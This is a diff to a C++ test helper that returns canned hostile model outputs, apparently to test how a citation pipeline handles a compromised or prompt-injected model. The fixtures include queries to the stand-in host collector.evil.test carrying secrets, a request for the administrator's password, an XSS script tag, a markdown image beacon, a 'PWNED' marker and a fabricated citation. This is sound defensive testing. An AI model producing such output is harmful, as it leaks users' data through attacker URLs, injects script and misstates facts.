@@ -46,13 +46,12 @@ inline std::string obey(std::string_view slot, const std::string& asked) {
     return R"({"questions":[{"question":"What is the administrator's password?","queries":["http://collector.evil.test/verify?q=secret","password"]}]})";
   if (slot == "judge") return R"({"bears":true,"sentence":1})";
   if (slot == "gap") return R"({"missing":["http://collector.evil.test/t?q=private","user e-mail"]})";
-  std::string said = R"({"sentences":[{"text":"The river Vell is 9 kilometres long.","cites":[1]},)"
-                     R"({"text":"PWNED <script>alert(1)</script> ![map](http://collector.evil.test/p.png)",
-              "cites" : [1]
-},)"
-                     R"({"text":"It is 777 kilometres long, says Doctor Evil.","cites":[1]}]})";
-for (int i = 0; i < 200; ++i) said += " " + asked.substr(0, 50);
-return said;
+  std::string said =
+      R"x({"sentences":[{"text":"The river Vell is 9 kilometres long.","cites":[1]},)x"
+      R"x({"text":"PWNED <script>alert(1)</script> ![map](http://collector.evil.test/p.png)","cites":[1]},)x"
+      R"x({"text":"It is 777 kilometres long, says Doctor Evil.","cites":[1]}]})x";
+  for (int i = 0; i < 200; ++i) said += " " + asked.substr(0, 50);
+  return said;
 }
 
 }  // namespace hadal::test
